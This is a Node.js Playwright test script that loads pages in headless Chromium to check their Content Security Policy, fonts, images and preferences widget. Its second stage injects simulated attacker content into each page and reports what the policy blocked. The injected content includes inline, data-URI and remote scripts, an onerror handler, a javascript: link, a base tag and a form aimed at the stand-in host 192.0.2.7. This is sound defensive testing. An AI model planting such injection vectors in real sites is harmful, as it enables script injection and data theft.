// node policy.mjs NODE_MODULES ADDRESS...: pages as a real browser loads them, where what their policy forbids is told. Writes JSON, an object for each page:
// the directives that were violated and by what, what the console said, whether the sheet applies, faces are loaded and pictures shown, whether the
// script of the page ran; and what became of what an attacker would put in: scripts, handlers, styles, pictures, frames, forms, a base.
import { createRequire } from 'node:module';
import path from 'node:path';

const [modules, ...addresses] = process.argv.slice(2);
const { chromium } = createRequire(path.join(path.resolve(modules), 'package.json'))('playwright-core');
const ARGS = ['--no-sandbox', '--disable-dev-shm-usage', '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1', '--disable-component-update'];
const browser = await chromium.launch({ executablePath: process.env.CHROMIUM || '/usr/bin/chromium', args: ARGS });
const report = [];
try {
  for (const address of addresses)
    for (const colorScheme of ['light', 'dark']) {
      const context = await browser.newContext({ colorScheme });
      await context.addInitScript(() => {
        window.violated = [];
        document.addEventListener('securitypolicyviolation', event => window.violated.push(`${event.effectiveDirective} ${event.blockedURI}`));
      });
      const page = await context.newPage();
      const said = [];
      page.on('console', message => ['error', 'warning'].includes(message.type()) && said.push(message.text()));
      page.on('pageerror', fault => said.push(fault.message));
      await page.goto(address, { waitUntil: 'load' });
      await page.emulateMedia({ media: 'print' });
      await page.emulateMedia({ media: 'screen' });
      const seen = await page.evaluate(async () => {
        for (const image of document.images) image.loading = 'eager';
        await Promise.all([...document.images].map(image => image.decode().catch(() => {})));
        await document.fonts.ready;
        const box = document.querySelector('.preferences input');
        box.closest('details').open = true;
        box.click();
        return {
          violated: [...window.violated],
          rules: document.styleSheets.length,
          margin: getComputedStyle(document.querySelector('.skip')).position,
          faces: [...document.fonts].filter(face => face.status === 'loaded').length,
          failed: [...document.fonts].filter(face => face.status === 'error').length,
          pictures: [...document.images].map(image => image.naturalWidth > 0),
          remembered: localStorage.getItem('octavo-preferences'),
        };
      });
      const before = said.length;
      const attacked = await page.evaluate(async () => {
        window.violated.length = 0;
        const add = (name, attributes, text = '') => {
          const element = Object.assign(document.createElement(name), { textContent: text });
          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
          document.body.append(element);
          return element;
        };
        add('script', {}, 'window.harmed = "script"');
        add('script', { src: 'data:text/javascript,window.harmed="data"' });
        add('script', { src: 'http://192.0.2.7/x.js' });
        add('img', { src: 'http://192.0.2.7/x.png', onerror: 'window.harmed = "handler"' });
        add('a', { href: 'javascript:window.harmed="link"' }).click();
        add('style', {}, 'body { color: rgb(1, 2, 3) !important }');
        add('p', { style: 'color: rgb(1, 2, 3)' });
        add('iframe', { src: 'http://192.0.2.7/' });
        add('base', { href: 'http://192.0.2.7/' });
        add('form', { action: 'http://192.0.2.7/' }).submit();
        await fetch('http://192.0.2.7/').catch(() => {});
        await new Promise(done => setTimeout(done, 300));
        return {
          harmed: window.harmed ?? '', colour: getComputedStyle(document.body).color, base: document.baseURI,
          refused: [...new Set(window.violated.map(one => one.split(' ')[0]))].sort(),
        };
      });
      report.push({ address, colorScheme, said: said.slice(0, before), ...seen, attacked });
      await context.close();
    }
  console.log(JSON.stringify(report));
} finally {
  await browser.close();
}
